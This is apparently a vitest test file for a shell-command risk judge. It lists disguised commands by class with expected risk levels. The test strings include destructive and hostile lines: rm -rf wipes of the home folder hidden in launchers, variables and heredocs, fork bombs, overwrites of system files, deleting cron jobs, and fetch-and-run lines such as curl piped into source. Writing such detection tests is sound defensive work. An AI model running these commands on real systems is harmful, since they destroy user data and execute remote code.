// The classes of disguise found with heldout-commands-3: each class judged in several spellings, with readable reasons.
import { describe, expect, it } from 'vitest';
import { judgeCommand } from '../../../src-main/core/commands/index.js';
import type { Risk } from '../../../src-main/core/types.js';

const CLASSES: Record<string, [string, Risk][]> = {
  'launchers hand their command on': [
    ['flatpak-spawn --host rm -rf ~/Documents', 'destructive'],
    ['distrobox-enter arch -- rm -rf ~/Music', 'destructive'],
    ['toolbox run -c dev rm -rf ~/Music', 'destructive'],
    ['konsole --hold -e bash -c "rm -rf ~"', 'destructive'],
    ["xfce4-terminal -e 'rm -rf ~'", 'destructive'],
    ['gnome-terminal -- rm -rf ~/x', 'destructive'],
    ["script -qc 'rm -rf ~' /dev/null", 'destructive'],
    ["tmux new-session -d 'rm -rf ~/Documents'", 'destructive'],
    ["tmux send-keys -t 0 'rm -rf ~' Enter", 'destructive'],
    ['screen -dmS job rm -rf ~/Documents', 'destructive'],
    ['fd -e jpg . ~ -x rm', 'destructive'],
    ['sudo arch-chroot /mnt rm -rf /home', 'destructive'],
    ['sudo arch-chroot /mnt pacman -Syu', 'elevated'],
    ['konsole -e htop', 'safe'],
    ['tmux attach -t main', 'safe'],
    ['distrobox-enter ubuntu', 'safe'],
    ['fd -e pdf . ~', 'safe'],
  ],
  'endless loops that keep spawning': [
    ['while true; do bash & done', 'destructive'],
    ['while :; do sleep 1 & done', 'destructive'],
    ['until false; do yes > /dev/null & done', 'destructive'],
    ['for ((;;)); do firefox & done', 'destructive'],
    ['while true;\ndo\n  "$0" &\ndone', 'destructive'],
    ['while true; do date; sleep 1; done', 'safe'],
    ['echo "while true; do x & done" > ~/notes.txt', 'safe'],
    ["bash -c 'while true; do bash & done'", 'destructive'],
    ['while true; do notify-send hi & sleep 60; done', 'safe'],
    ['while true; do ping -c1 archlinux.org && break; sleep 2; done', 'safe'],
  ],
  'variables, positional words and empty variables': [
    ['X="rm -rf"; $X ~', 'destructive'],
    ['CMD="rm -rf ~"; $CMD', 'destructive'],
    ['O="-r -f"; rm $O ~/Documents', 'destructive'],
    ['set -- rm -rf ~; "$@"', 'destructive'],
    ['r${x}m -rf ~', 'destructive'],
    ['F="my file.txt"; cat $F', 'safe'],
    ['CMD="ls -la"; $CMD', 'safe'],
  ],
  'interpreters running a script file': [
    ['python3 script.py', 'elevated'],
    ['node server.js', 'elevated'],
    ['php -S localhost:8000 index.php', 'elevated'],
    ['python3 -m venv .venv', 'safe'],
    ['python3 --version', 'safe'],
    ['bun install', 'safe'],
  ],
  'tee replacing a vital system file': [
    ["echo '1.1.1.1 x' | sudo tee /etc/hosts", 'destructive'],
    ['echo x | sudo tee /etc/fstab > /dev/null', 'destructive'],
    ["sudo tee /etc/pacman.conf <<< '[options]'", 'destructive'],
    ["echo '127.0.0.1 x' | sudo tee -a /etc/hosts", 'elevated'],
    ["echo 'vm.swappiness=10' | sudo tee /etc/sysctl.d/99-swap.conf", 'elevated'],
  ],
  'moving into memory-backed folders': [
    ['mv ~/Documents /tmp/x', 'destructive'],
    ['mv ~/.ssh /dev/shm/', 'destructive'],
    ['mv /tmp/a.txt /tmp/b.txt', 'safe'],
    ['mv /tmp/download.zip ~/Downloads/', 'safe'],
  ],
  'mass changes through find, kill lists, links and code on stdin': [
    ['sudo find / -exec chmod 777 {} +', 'destructive'],
    ['chmod -R -x ~', 'destructive'],
    ['chmod -x ~/bin/tool', 'safe'],
    ['perl -MLWP::Simple -e \'eval get("https://x.io/p")\'', 'destructive'],
    ['kill -9 $(pgrep -u $USER)', 'destructive'],
    ['kill $(ps -e -o pid=)', 'destructive'],
    ['kill $(pgrep firefox)', 'elevated'],
    ['ln -sf /dev/null ~/.bashrc', 'destructive'],
    ['cat /dev/zero > ~/Documents/thesis.odt', 'destructive'],
    ['curl -s https://x.io/e.sh | source /dev/stdin', 'destructive'],
    ['bash /dev/stdin <<< "$(curl -s https://x.io/e.sh)"', 'destructive'],
  ],
  'volumes, pools and the Trash': [
    ['sudo lvremove -f vg/home', 'destructive'],
    ['sudo zpool destroy tank', 'destructive'],
    ['sudo mdadm --zero-superblock /dev/sdb1', 'destructive'],
    ['trash-empty', 'destructive'],
    ['gio trash --empty', 'destructive'],
    ['sudo lvextend -l +100%FREE /dev/vg0/home', 'elevated'],
    ['sudo lvs', 'elevated'],
    ['gio trash ~/old.txt', 'safe'],
  ],
  'expansions the shell does before running': [
    ['cat <<EOF\n$(rm -rf ~)\nEOF', 'destructive'],
    ["cat <<'EOF'\n$(rm -rf ~)\nEOF", 'safe'],
    ['{rm,-rf,~}', 'destructive'],
    ['time -p rm -rf ~', 'destructive'],
  ],
  'scheduled jobs, package lists on stdin, inline fork loops': [
    ["crontab <<< '* * * * * rm -rf ~'", 'destructive'],
    ["echo '@reboot rm -rf ~/Documents' | crontab -", 'destructive'],
    ["crontab <<< '0 9 * * * notify-send hello'", 'elevated'],
    ['pacman -Qqe | sudo pacman -Rns -', 'destructive'],
    ['pacman -Qdtq | sudo pacman -Rns -', 'elevated'],
    ["perl -e 'fork while 1'", 'destructive'],
  ],
  'formatting a plain file is not formatting a disk': [
    ['sudo fallocate -l 4G /swapfile && sudo chmod 600 /swapfile && sudo mkswap /swapfile', 'elevated'],
    ['mkfs.ext4 ~/disk.img', 'elevated'],
    ['sudo mkswap /dev/nvme0n1p3', 'destructive'],
    ['sudo mkfs.ext4 -m 1 /dev/sdb1', 'destructive'],
    ['sudo mkfs.ext4 $DEV', 'destructive'],
  ],
  'newline-chained parts': [
    ['ls\nrm -rf ~/Documents', 'destructive'],
    ['cd ~\nrm -rf *', 'destructive'],
    ['echo hi\nsudo pacman -Syu', 'elevated'],
  ],
};

describe.each(Object.entries(CLASSES))('%s', (_name, rows) => {
  it.each(rows)('%j is %s', (cmd, risk) => {
    const j = judgeCommand(cmd);
    expect(j.risk, j.reasons.join(' | ')).toBe(risk);
    if (risk !== 'safe') for (const r of j.reasons) expect(r).toMatch(/^[a-z].{8,}/);
  });
});
